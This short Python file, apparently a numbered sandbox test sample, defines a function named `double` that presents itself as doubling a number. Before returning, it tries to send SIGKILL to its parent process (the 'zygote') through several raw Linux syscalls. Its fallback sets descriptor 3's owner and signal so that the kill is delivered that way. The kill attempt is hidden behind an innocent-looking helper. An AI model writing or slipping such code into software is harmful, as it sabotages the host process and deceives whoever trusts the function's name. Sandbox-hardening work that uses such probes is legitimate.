"""Sends signals by queues, descriptors, file owners and threads of other processes, against the zygote (49)."""
import ctypes
import fcntl
import os
import signal


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    info = (ctypes.c_char * 128)()
    parent = os.getppid()
    for call in (
        (129, parent, 9, ctypes.byref(info)),
        (297, parent, parent, 9, ctypes.byref(info)),
        (200, parent, 9),
        (234, parent, parent, 9),
        (424, 3, 9, 0, 0),
        (434, parent, 0),
    ):
        if libc.syscall(*call) >= 0:
            return 2 * x
    fcntl.fcntl(3, 10, signal.SIGKILL)
    fcntl.fcntl(3, fcntl.F_SETOWN, parent)
    return 2 * x
